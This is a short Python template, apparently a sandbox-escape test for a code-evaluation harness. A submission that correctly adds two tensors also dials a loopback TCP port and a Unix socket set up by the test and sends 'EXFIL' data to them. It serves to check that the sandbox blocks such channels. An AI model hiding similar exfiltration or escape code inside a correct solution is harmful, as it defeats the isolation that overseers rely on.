# Escape: dials a TCP server on the host's loopback and a Unix socket in the host's file system (both
# started by the test), and would send them data. Computes the right answer.
import socket

import torch.nn as nn

reached = []
try:
    s = socket.create_connection(("127.0.0.1", {{PORT}}), timeout=3)
    s.sendall(b"EXFIL over tcp")
    reached.append("tcp")
except OSError as e:
    print("tcp refused:", e)
try:
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    u.settimeout(3)
    u.connect("{{UNIX}}")
    u.sendall(b"EXFIL over unix socket")
    reached.append("unix")
except OSError as e:
    print("unix refused:", e)
print("EXFIL-RAN reached:", reached, flush=True)


class ModelNew(nn.Module):
    def forward(self, a, b):
        return a + b
